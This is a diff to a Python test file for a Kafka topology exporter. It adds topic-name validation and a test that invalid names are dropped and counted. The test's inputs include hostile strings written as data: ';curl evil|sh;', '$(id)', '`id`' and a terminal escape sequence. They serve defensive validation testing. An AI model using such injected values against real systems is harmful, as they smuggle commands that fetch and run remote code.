@@ -15,7 +15,7 @@ from exporter.kafka.errors import ErrorCode, MalformedAnswerError
 from exporter.kafka.messages import metadata
 from exporter.kafka.messages.metadata import MetadataAnswer
 from exporter.kafka.messages.versions import METADATA
-from exporter.kafka.topology import PARTITIONS_OF_A_TOPIC_MAX, Topology, topology_of
+from exporter.kafka.topology import PARTITIONS_OF_A_TOPIC_MAX, Topology, is_topic_name, topology_of
 from exporter.snapshot import NO_LEADER
 
 VERSION = METADATA.highest
@@ -70,7 +70,7 @@ def replicas_of(partition: int) -> list[int]:
 
 @given(
     st.dictionaries(
-        st.text("abc._-", min_size=1, max_size=4),
+        st.text("abc._-", min_size=1, max_size=4).filter(is_topic_name),
         st.dictionaries(st.integers(0, 12), st.tuples(st.integers(-1, 5), st.integers(-1, 9)), min_size=1, max_size=6),
         max_size=6,
     )
@@ -141,3 +141,18 @@ def test_an_empty_cluster_has_no_rows() -> None:
 
     assert isinstance(topology, Topology)
     assert len(topology) == 0
+
+
+@pytest.mark.parametrize(
+    "name", [";curl evil|sh;", "a b", "a\nb", "\x1b[2J", "$(id)", "`id`", "..", "a" * 250, "--yes", "é"]
+)
+def test_a_topic_with_a_name_that_kafka_refuses_has_no_rows(name: str) -> None:
+    """Its name is in no alert, page, plan or terminal; the others are as ever, and how many are refused is known."""
+    found = topology_of(answer({"a": {0: (1, 0), 1: (2, 5)}, name: {0: (1, 0), 3: (2, 0)}, "z": {0: (2, 7)}}))
+
+    is_legal = name == "--yes"  # dashes are legal everywhere in a name
+    assert (name in found.topics) == is_legal
+    assert found.refused_names == (0 if is_legal else 1)
+    assert [found.leader_of("a", 0), found.leader_of("a", 1), found.leader_of("z", 0)] == [(1, 0), (2, 5), (2, 7)]
+    assert found.replicas.of(found.rows_of("z")[0]) == topology_of(answer({"z": {0: (2, 7)}})).replicas.of(0)
+    assert len(found) == (3 + 4 if is_legal else 3)
